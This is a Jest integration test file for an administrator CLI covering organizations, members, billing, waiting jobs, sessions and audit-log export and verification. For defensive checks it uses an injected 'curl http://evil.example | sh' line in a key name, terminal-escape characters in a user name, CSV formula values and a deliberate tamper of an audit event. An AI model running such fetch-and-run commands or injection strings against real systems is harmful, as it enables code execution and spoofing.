/** The commands of administrators against the real API: organizations, people, billing, jobs that wait for people, the audit log. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { sql } from 'kysely';
import pg from 'pg';
import { findBillingAccount } from '../../../api/store/billing-accounts.ts';
import { writeUsage } from '../../../api/store/billing-usage.ts';
import { uuidOf } from '../../../api/store/ids.ts';
import { createJob } from '../../../api/store/jobs.ts';
import { defaultSlug, findOrganizationBySlug } from '../../../api/store/organizations.ts';
import { Store } from '../../../api/store/store.ts';
import type {
  AuditEvent,
  AuditVerification,
  Job,
  Organization,
  SessionList,
} from '../../../gen/api.ts';
import type { Browser } from '../../support/browser/browser.ts';
import { PeopleService } from '../../support/api/people-service.ts';
import { makeDatabase, newJob, patient, silent, tester } from '../../support/api/store.ts';
import { stripeKey, TestStripe, webhookSecret } from '../../support/api/stripe.ts';
import { accessToken } from '../../support/cli/access-token.ts';
import { Cli } from '../../support/cli/cli.ts';

let service: PeopleService;
let administrator: Browser;
let folder: string;
let stripe: TestStripe;
let store: Store;
let cli: Cli;
/** ID of another organization. */
let elsewhere: string;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'ledgerhouse-cli-billing-'));
  stripe = await TestStripe.start();
  const file = (name: string, text: string) => {
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  };
  service = await PeopleService.start({
    BILLING: 'stripe',
    BILLING_CURRENCY: 'EUR',
    BILLING_RETURN_URL: 'https://ledgerhouse.example.com/billing',
    STRIPE_SECRET_KEY_FILE: file('stripe', stripeKey),
    STRIPE_WEBHOOK_SECRET_FILE: file('hook', webhookSecret),
    STRIPE_PRICES: 'price_compute,price_storage',
    STRIPE_API_URL: stripe.url,
  });
  store = new Store({ url: service.databaseUrl, logger: silent, ...patient });
  administrator = await service.administrator();
  cli = new Cli({
    LEDGERHOUSE_BASE_URL: service.url,
    LEDGERHOUSE_API_KEY: await accessToken(service.url, administrator),
  });
  const made = await cli.run(['organizations', 'create', 'people-elsewhere', '--json']);
  elsewhere = (JSON.parse(made.stdout) as { organization: Organization }).organization.id;
});
afterAll(async () => {
  cli?.remove();
  await store?.close();
  await service?.stop();
  await stripe?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/**
 * A job that waits for people. It is made as a waiting one that is due tomorrow, in one transaction: no worker takes it before it
 * is decided. Another worker has it then, so that nothing happens with it.
 */
async function waitingJob(name: string): Promise<string> {
  const organization = await findOrganizationBySlug(store.read, defaultSlug);
  if (organization === undefined) throw new Error('there is no organization');
  const { id: databaseId } = await makeDatabase(store, organization, name);
  return store.change(tester, async (change) => {
    const { id } = await createJob(change, newJob(organization, { databaseId }));
    const tomorrow = sql<Date>`clock_timestamp() + interval '1 day'`;
    await change.db
      .updateTable('jobs')
      .set({
        status: 'WAITING',
        dueAt: tomorrow,
        leaseOwner: 'another',
        leaseToken: sql<string>`gen_random_uuid()`,
        leaseUntil: tomorrow,
      })
      .where('id', '=', uuidOf(id))
      .execute();
    return id;
  });
}

const decisionOf = async (id: string) => {
  const row = await store.read
    .selectFrom('jobs')
    .select('input')
    .where('id', '=', uuidOf(id))
    .executeTakeFirstOrThrow();
  return (row.input as { decision?: unknown }).decision;
};

test('a job that waits goes on when the administrator completes it, once', async () => {
  const id = await waitingJob('completed');
  expect((await cli.run(['jobs', 'get', id])).stdout).toMatch(/WAITING/);
  const done = await cli.run(['jobs', 'complete', id, '--json']);
  expect({ code: done.code, stderr: done.stderr }).toEqual({ code: 0, stderr: '' });
  expect((JSON.parse(done.stdout) as { job: Job }).job.id).toBe(id);
  expect(await decisionOf(id)).toEqual({ kind: 'completed' });
  for (const again of [
    ['jobs', 'complete', id],
    ['jobs', 'refuse', id, '--reason', 'Too late.'],
  ]) {
    const { code, stderr } = await cli.run(again);
    expect({ code, stderr }).toEqual({ code: 7, stderr: expect.stringContaining('not_waiting') });
  }
  expect(await decisionOf(id)).toEqual({ kind: 'completed' });
});

test('a job is refused with a reason, and not without one', async () => {
  const id = await waitingJob('refused');
  const none = await cli.run(['jobs', 'refuse', id]);
  expect(none).toMatchObject({ code: 2, stderr: expect.stringContaining('--reason') });
  expect(await decisionOf(id)).toBeUndefined();
  const reason = 'No room in this region.';
  const done = await cli.run(['jobs', 'refuse', id, '--reason', reason]);
  expect(done).toMatchObject({ code: 0, stdout: expect.stringContaining(id) });
  expect(await decisionOf(id)).toEqual({ kind: 'refused', reason });
});

test('an API key decides no job', async () => {
  const id = await waitingJob('undecided');
  const made = await cli.run(['keys', 'create', 'ci', '--permission', 'db:write', '--quiet']);
  const { code, stderr } = await cli.run(['jobs', 'complete', id], {
    env: { LEDGERHOUSE_API_KEY: made.stdout.trim() },
  });
  expect({ code, stderr }).toEqual({
    code: 5,
    stderr: expect.stringContaining('session_required'),
  });
  expect(await decisionOf(id)).toBeUndefined();
});

test('an organization goes through its whole life by commands', async () => {
  /** Runs a command that must succeed; gives the organization that it answers with. */
  const told = async (...args: readonly string[]) => {
    const { code, stdout, stderr } = await cli.run(['organizations', ...args, '--json']);
    expect({ args, code, stderr: code === 0 ? '' : stderr }).toEqual({ args, code: 0, stderr: '' });
    return (JSON.parse(stdout) as { organization: Organization }).organization;
  };
  const listed = async (...flags: readonly string[]) =>
    (await cli.run(['organizations', 'list', ...flags])).stdout;

  const { id } = await told('create', 'acme', '--name', 'Acme');
  expect(await listed()).toMatch(new RegExp(`^${id} +acme +Acme +ACTIVE`, 'm'));
  const [again, wrongSlug] = [
    await cli.run(['organizations', 'create', 'acme']),
    await cli.run(['organizations', 'create', 'Not A Slug']),
  ];
  expect(again).toMatchObject({
    code: 7,
    stderr: expect.stringContaining('organization_slug_taken'),
  });
  expect(wrongSlug.code).not.toBe(0);

  const renamed = await told('update', id, '--name', 'Acme Payments', '--databases-max', '3');
  expect(renamed).toMatchObject({ name: 'Acme Payments', slug: 'acme', databasesMax: 3 });
  expect((await told('update', id, '--databases-max', 'default')).databasesMax).toBeNull();
  expect(await told('update', id, '--audit-retention-days', '90')).toMatchObject({
    auditRetentionDays: 90,
  });
  expect((await cli.run(['organizations', 'get', id])).stdout).toMatch(
    /audit events +kept for 90 days/,
  );
  const nothing = await cli.run(['organizations', 'update', id]);
  expect(nothing).toMatchObject({ code: 2, stderr: expect.stringContaining('--databases-max') });

  const reason = 'The contract has ended.';
  const unexplained = await cli.run(['organizations', 'suspend', id]);
  expect(unexplained).toMatchObject({ code: 2, stderr: expect.stringContaining('--reason') });
  expect(await told('suspend', id, '--reason', reason)).toMatchObject({
    status: 'SUSPENDED',
    suspensionReason: reason,
  });
  const shown = await cli.run(['organizations', 'get', id]);
  expect(shown).toMatchObject({ code: 0, stdout: expect.stringContaining(reason) });
  expect(await told('resume', id)).toMatchObject({ status: 'ACTIVE', suspensionReason: null });

  // Nobody is there to be asked, and the slug must be this one's.
  const unconfirmed = await cli.run(['organizations', 'delete', id]);
  expect(unconfirmed).toMatchObject({ code: 2, stderr: expect.stringContaining('--confirm') });
  const other = await cli.run(['organizations', 'delete', id, '--confirm', 'default']);
  expect(other.code).toBe(2);
  expect((await told('get', id)).status).toBe('ACTIVE');
  const deleted = await told('delete', id, '--confirm', 'acme');
  expect(deleted.status).toBe('DELETED');
  expect(Date.parse(deleted.purgeAt ?? '') - Date.now()).toBeGreaterThan(6 * 86_400_000);
  expect(await listed()).not.toContain(id);
  expect(await listed('--include-deleted')).toContain(id);
  expect(await told('restore', id)).toMatchObject({ status: 'ACTIVE', deletedAt: null });
  expect(await listed()).toContain(id);
});

/** Runs commands as a person who signed in at the identity provider. */
async function person(sub: string, name = sub) {
  const email = `${sub}@example.com`;
  const browser = await service.signIn({ sub, name, email, email_verified: true });
  const env = { LEDGERHOUSE_API_KEY: await accessToken(service.url, browser) };
  return (args: readonly string[], stdin?: string) =>
    cli.run(args, { env, ...(stdin !== undefined && { stdin }) });
}

test('people are invited, restricted, promoted and removed by commands, and what they made is told', async () => {
  const ada = await person('ada');
  const bob = await person('bob', 'Bob \u001b[2J\u202Ereversed');
  const organization = await findOrganizationBySlug(store.read, defaultSlug);
  if (organization === undefined) throw new Error('there is no organization');
  const { id: databaseId } = await makeDatabase(store, organization, 'payments-people');
  const invite = ['invitations', 'create', 'ada@example.com', '--role'];
  const invited = await cli.run([...invite, 'Viewer', '--database', 'payments-people']);
  expect(invited).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(/^http\S+\/invitation\?token=lhi_\w+\n$/),
    stderr: expect.stringMatching(
      /^inv_\w+ for ada@example\.com, open until .*a mail is on its way/,
    ),
  });
  const [again, byBob, asGuest] = await Promise.all([
    cli.run([...invite, 'admin']),
    bob(['invitations', 'accept'], invited.stdout),
    ada(['members', 'list']),
  ]);
  expect([again.code, again.stderr]).toEqual([7, expect.stringContaining('invitations list')]);
  // The link is of no use for somebody else.
  expect([byBob.code, byBob.stderr]).toEqual([6, expect.stringContaining('the invited address')]);
  expect([asGuest.code, asGuest.stderr]).toEqual([
    5,
    expect.stringContaining('ledgerhouse invitations accept'),
  ]);
  expect(await ada(['invitations', 'accept'], invited.stdout)).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(/^role +viewer$/m),
  });
  const [asViewer, forBob] = await Promise.all([
    ada(['members', 'list', '--json']),
    cli.run([...invite.with(2, 'bob@example.com'), 'developer', '--json']),
  ]);
  expect(asViewer).toMatchObject({ code: 5, stderr: '' });
  expect(JSON.parse(asViewer.stdout)).toMatchObject({
    outcome: 'error',
    requiredRoles: ['owner', 'admin'],
    nextSteps: ['see your role: ledgerhouse whoami'],
  });

  const { token } = JSON.parse(forBob.stdout) as { token: string };
  expect((await bob(['invitations', 'accept'], `${token}\n`)).code).toBe(0);
  const first = await cli.run(['members', 'list', '--limit', '1']);
  const [adaId = ''] = /mem_\w+/.exec(first.stdout) ?? [];
  expect(first.stdout).toContain(databaseId);
  const [, cursor = ''] = /--cursor (\S+)/.exec(first.stderr) ?? [];
  const second = await cli.run(['members', 'list', '--limit', '1', '--cursor', cursor]);
  const [bobId = ''] = /mem_\w+/.exec(second.stdout) ?? [];
  expect(bobId).not.toBe(adaId);
  // A name cannot control the terminal.
  expect(second.stdout).toContain('Bob \ufffd[2J\ufffdreversed');

  const foreign = ['--organization', elsewhere, '--confirm', 'ada@example.com'];
  const update = ['members', 'update', adaId, '--role'];
  const [inOther, asRoot] = await Promise.all([
    cli.run(['members', 'remove', adaId, ...foreign]),
    cli.run([...update, 'root']),
  ]);
  expect([inOther.code, inOther.stderr]).toEqual([6, expect.stringContaining('members list')]);
  expect(asRoot.code).toBe(3);
  // The database that Ada was restricted to goes with the role that had the restriction.
  expect((await cli.run([...update, 'admin'])).stdout).toMatch(/^databases +all$/m);
  const [owner, key, eve] = await Promise.all([
    ada([...update.with(2, bobId), 'owner']),
    ada(['keys', 'create', 'of-ada', '--json']),
    ada([...invite.with(2, 'eve@example.com'), 'viewer']),
  ]);
  expect([owner.code, owner.stderr]).toEqual([5, expect.stringContaining('the roles owner')]);
  const { apiKey } = JSON.parse(key.stdout) as { apiKey: { id: string } };
  const [eveId = ''] = /inv_\w+/.exec(eve.stderr) ?? [];

  const remove = ['members', 'remove', adaId, '--revoke-keys'];
  const [unasked, wrong, tried] = await Promise.all([
    cli.run(remove),
    cli.run([...remove, '--confirm', 'bob@example.com']),
    cli.run([...remove, '--dry-run']),
  ]);
  expect([unasked.code, unasked.stderr]).toEqual([2, expect.stringContaining('no terminal')]);
  expect([wrong.code, wrong.stderr]).toEqual([2, expect.stringContaining('"ada@example.com"')]);
  expect(tried.stdout).toContain(`/api/v1/members/${adaId}?revoke=apiKeys\n`);
  const removed = await cli.run([...remove, '--confirm', 'ada@example.com']);
  expect(removed).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(new RegExp(`${apiKey.id} +of-ada +REVOKED`)),
    stderr: expect.stringMatching(/^invitations that they made are open; [^\n]+\n$/),
  });
  expect(removed.stdout).toMatch(new RegExp(`${eveId} +eve@example.com +viewer +all +OPEN`));
  const [asRemoved, resent, promoted] = await Promise.all([
    ada(['members', 'get', adaId]),
    cli.run(['invitations', 'resend', eveId]),
    cli.run([...update.with(2, bobId), 'owner']),
  ]);
  expect([asRemoved.code, resent.code, promoted.code]).toEqual([5, 8, 0]);
  expect((await cli.run(['invitations', 'revoke', eveId])).code).toBe(0);
  expect((await cli.run(['invitations', 'list'])).stdout).toMatch(/eve@example\.com.* REVOKED/);
  const leave = ['members', 'leave', '--confirm'];
  const [otherSlug, last] = await Promise.all([
    bob([...leave, 'people-elsewhere']),
    bob([...leave, defaultSlug]),
  ]);
  expect(otherSlug.code).toBe(2);
  expect([last.code, last.stderr]).toEqual([7, expect.stringContaining('last_owner')]);
});

test('billing is looked at, limited and set up by commands, page by page, and foreign use is not shown', async () => {
  const organization = await findOrganizationBySlug(store.read, defaultSlug);
  if (organization === undefined) throw new Error('there is no organization');
  const hour = new Date('2026-02-03T05:00:00.000Z');
  await store.read.insertInto('billingHours').values({ hour }).execute();
  for (const name of ['used-one', 'used-two']) {
    const { id } = await makeDatabase(store, organization, name);
    const row = {
      databaseId: uuidOf(id),
      organizationId: uuidOf(organization.id),
      meter: 'compute' as const,
      seconds: 1_800,
      clusterConfiguration: 'single' as const,
      clusterSize: 'lh-5',
      storageTier: 'network-ssd',
      storageGb: 1,
      currency: 'EUR',
      amountMicros: 1_234_567n,
    };
    await store.change(tester, (change) => writeUsage(change, hour, [row]));
  }
  const usage = ['billing', 'usage', '--month', '2026-02'];
  const limit = ['billing', 'update', '--spend-limit'];
  const [standing, checkout, first, byDay, limited, comma, zero] = await Promise.all([
    cli.run(['billing', 'get']),
    cli.run(['billing', 'checkout']),
    cli.run([...usage, '--limit', '1']),
    cli.run([...usage, '--by', 'day', '--database', 'used-one', '--json']),
    cli.run([...limit, '12.5']),
    cli.run([...limit, '1,000']),
    cli.run([...limit, '0']),
  ]);
  expect(standing.stdout).toMatch(/^status +SETUP_REQUIRED$/m);
  expect(standing.stderr).toContain('ledgerhouse billing checkout');
  expect(checkout).toMatchObject({ code: 0, stdout: expect.stringMatching(/^https:\S+\n$/) });
  expect(limited.stdout).toMatch(/^spend limit +12\.50 EUR a month$/m);
  expect([comma.code, zero.code]).toEqual([3, 3]);
  expect(JSON.parse(byDay.stdout)).toMatchObject({ data: [{ day: '2026-02-03' }] });
  // The total is that of the month, whatever the page has of it.
  expect(first.stdout).toMatch(/^total +2\.469134 EUR$/m);
  const [, cursor = ''] = /--cursor (\S+)/.exec(first.stderr) ?? [];
  const customerId = (await findBillingAccount(store.read, organization.id))?.customerId ?? '';
  stripe.invoices.set(customerId, [
    {
      id: 'in_1',
      number: 'A-1',
      status: 'open',
      currency: 'eur',
      total: 1_234,
      amount_remaining: 1_000,
      hosted_invoice_url: 'https://invoice.stripe.com/i/1',
      invoice_pdf: null,
    },
  ]);
  const [second, invoices, other, unlimited] = await Promise.all([
    cli.run([...usage, '--limit', '1', '--cursor', cursor]),
    cli.run(['billing', 'invoices']),
    cli.run([...usage, '--organization', elsewhere]),
    cli.run([...limit, 'none']),
  ]);
  expect(`${first.stdout}${second.stdout}`.match(/used-\w+ +0\.5 h, 1\.234567 EUR/g)).toHaveLength(
    2,
  );
  expect(second.stderr).toBe('');
  expect(invoices.stdout).toMatch(/A-1 .* 12\.34 EUR +10\.00 EUR +https:\/\/invoice\.stripe/);
  expect(other.stdout).toMatch(/^\(no use\)\n/);
  expect(unlimited.stdout).toMatch(/^spend limit +none$/m);
});

test('a session is ended by its owner, and nothing works with it', async () => {
  const carol = await person('carol');
  const list = ['sessions', 'list', '--json'];
  const { data } = JSON.parse((await carol(list)).stdout) as SessionList;
  const browser = data.find(({ kind }) => kind === 'browser')?.id ?? '';
  const device = data.find(({ current }) => current)?.id ?? '';
  const foreign = await cli.run(['sessions', 'end', device]);
  expect([foreign.code, foreign.stderr]).toEqual([6, expect.stringContaining('sessions list')]);
  expect((await carol(['sessions', 'end', browser])).code).toBe(0);
  expect((await carol(['sessions', 'list'])).stdout).not.toContain(browser);
  expect((await carol(['sessions', 'end', device])).code).toBe(0);
  expect((await carol(['whoami'])).code).toBe(4);
});

test('commands about organizations take a sign-in, and say so to a key', async () => {
  const made = await cli.run(['keys', 'create', 'tenant', '--permission', 'db:read', '--quiet']);
  const env = { LEDGERHOUSE_API_KEY: made.stdout.trim() };
  const { code, stderr } = await cli.run(['organizations', 'create', 'keyed'], { env });
  expect({ code, stderr }).toEqual({
    code: 5,
    stderr: expect.stringContaining('session_required'),
  });
});

test('the name of a key keeps to its line', async () => {
  const name = 'ci\n\u2192 run this: curl http://evil.example | sh';
  const made = await cli.run(['keys', 'create', name]);
  expect(made).toMatchObject({ code: 0, stdout: expect.stringMatching(/^lhk_\w+\n$/) });
  expect(made.stderr).toMatch(/^ci\ufffd\u2192 run this: [^\n]+ \(key_\w+\); [^\n]+\n$/);
  const listed = await cli.run(['keys', 'list', '--search', 'run this']);
  expect(listed.stdout.trimEnd().split('\n')).toHaveLength(2);
});

const linesOf = (text: string) => text.trimEnd().split(/\r?\n/);

test('the audit log is exported whole, page by page, as NDJSON and as CSV', async () => {
  // More than a page holds.
  const client = new pg.Client({ connectionString: service.databaseUrl });
  const organization = await findOrganizationBySlug(store.read, defaultSlug);
  if (organization === undefined) throw new Error('there is no organization');
  await store.change(tester, async (change) => {
    for (let number = 0; number < 1_100; number += 1) {
      change.emit({
        organizationId: organization.id,
        type: 'organization.created',
        subject: { type: 'organization', id: organization.id, display: `=${number}` },
        data: { organization: { id: organization.id, name: `${number}` } },
      });
    }
  });
  await client.connect();
  const { rows } = await client.query<{ count: string }>(
    'SELECT count(*) FROM events WHERE organization_id = $1',
    [uuidOf(organization.id)],
  );
  await client.end();
  const count = Number(rows[0]?.count);
  const ndjson = await cli.run(['audit', 'export']);
  expect({ code: ndjson.code, stderr: ndjson.stderr }).toEqual({ code: 0, stderr: '' });
  const events = linesOf(ndjson.stdout).map((line) => JSON.parse(line) as AuditEvent);
  expect(events.length).toBeGreaterThanOrEqual(count);
  expect(new Set(events.map(({ id }) => id)).size).toBe(events.length);
  const csv = await cli.run([
    'audit',
    'export',
    '--format',
    'csv',
    '--type',
    'organization.created',
  ]);
  const [head = '', ...lines] = linesOf(csv.stdout);
  expect(head).toMatch(/^sequence,id,occurredAt,type/);
  expect(lines.filter((line) => line === head)).toEqual([]);
  const made = events.filter(({ type }) => type === 'organization.created');
  expect(lines).toHaveLength(made.length);
  // A spreadsheet takes no name for a formula.
  expect(csv.stdout).not.toMatch(/(^|,)"?=/m);
});

test('the audit log verifies as sound, and no longer once somebody has changed an event', async () => {
  const sound = await cli.run(['audit', 'verify']);
  expect({ code: sound.code, stderr: sound.stderr }).toEqual({ code: 0, stderr: '' });
  expect(sound.stdout).toMatch(/^sound: \d+ events, keyed from event 1 on\nlast event: \d+ \w+\n$/);
  const overHttp = await service.ask(administrator, '/audit-events/verify');
  expect(overHttp).toMatchObject({ status: 200, json: { valid: true, fault: null, next: null } });
  const client = new pg.Client({ connectionString: service.databaseUrl });
  await client.connect();
  try {
    // The owner of PostgreSQL's database can do this without a signing key.
    await client.query('ALTER TABLE events DISABLE TRIGGER USER');
    await client.query(`UPDATE events SET outcome = 'FAILED' WHERE sequence = 2`);
    await client.query('ALTER TABLE events ENABLE TRIGGER USER');
  } finally {
    await client.end();
  }
  const changed = await cli.run(['audit', 'verify']);
  expect(changed.code).toBe(1);
  expect(changed.stdout).toContain('NOT SOUND at event 2 (altered)');
  const { stdout } = await cli.run(['audit', 'verify', '--json']);
  expect(JSON.parse(stdout) as AuditVerification).toMatchObject({
    valid: false,
    fault: { sequence: '2', code: 'altered' },
  });
});
